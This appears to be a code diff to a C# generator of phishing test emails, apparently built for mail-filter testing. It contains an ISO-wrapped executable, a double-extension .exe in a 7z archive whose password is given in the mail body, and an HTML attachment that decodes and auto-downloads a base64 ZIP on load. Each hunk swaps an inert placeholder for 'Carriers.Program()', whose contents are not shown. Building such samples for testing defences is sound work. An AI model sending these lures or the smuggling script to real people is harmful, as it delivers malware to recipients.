@@ -48,7 +48,7 @@ public sealed class LetterWithArmedFile : SixthRound
             <html><body style="font-family:Calibri"><p>Sehr geehrte Damen und Herren,</p>
             <p>anbei erhalten Sie unsere Anfrage mit Zeichnungen. Bitte &ouml;ffnen Sie die Datei per Doppelklick und senden uns Ihr bestes Angebot bis Freitag.</p>
             <p>Mit freundlichen Gr&uuml;&szlig;en<br>Jens K&ouml;hler</p></body></html>
-            """, ("Anfrage_PRJ-2026-117.iso", "application/x-iso9660-image", Carriers.Disc("ANFRAGE", [], ("Anfrage_PRJ-2026-117.exe", InertFiles.Pe(8192))))));
+            """, ("Anfrage_PRJ-2026-117.iso", "application/x-iso9660-image", Carriers.Disc("ANFRAGE", [], ("Anfrage_PRJ-2026-117.exe", Carriers.Program())))));
 
         yield return ("payment advice.msg", new MsgBuilder()
             .Text(0x0037, "Payment advice - Ref 99201")
@@ -137,7 +137,7 @@ public sealed class LetterThatTellsThePassword : SixthRound
             """, "text/html", """
             <p>Sehr geehrte Damen und Herren,</p><p>hiermit bewerbe ich mich auf die ausgeschriebene Stelle. Meine Unterlagen finden Sie im Anhang.
             Aus Datenschutzgr&uuml;nden ist das Archiv gesch&uuml;tzt, das <b>Passwort lautet: Hartwig2026</b></p><p>Mit freundlichen Gr&uuml;&szlig;en<br>Lena Hartwig</p>
-            """, ("Bewerbungsunterlagen.7z", "application/x-7z-compressed", Carriers.Packed("b.7z", "-t7z -pHartwig2026", ("Lebenslauf.pdf.exe", InertFiles.Pe(4096)), ("Foto.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, .. new byte[200], 0xFF, 0xD9])))));
+            """, ("Bewerbungsunterlagen.7z", "application/x-7z-compressed", Carriers.Packed("b.7z", "-t7z -pHartwig2026", ("Lebenslauf.pdf.exe", Carriers.Program()), ("Foto.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, .. new byte[200], 0xFF, 0xD9])))));
 
         yield return ("facture.eml", Carriers.Letter("""
             From: Service Comptabilité <comptabilite@atelier-morel.example>
@@ -333,7 +333,7 @@ public sealed class OutlookItemThatCallsOut : SixthRound
                 .Text(0x1000, "Document attached.")
                 .Attachment("Scan_0023.html", Dos($"""
                     <html><body onload="d()"><script>
-                    function d(){"{"}var b=atob("{Convert.ToBase64String(InertFiles.Zip(("Scan_0023.exe", InertFiles.Pe())))}");var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
+                    function d(){"{"}var b=atob("{Convert.ToBase64String(InertFiles.Zip(("Scan_0023.exe", Carriers.Program())))}");var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
                     var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u],{"{"}type:"octet/stream"{"}"}));a.download="Scan_0023.zip";a.click();{"}"}
                     </script>Opening document...</body></html>
                     """)))
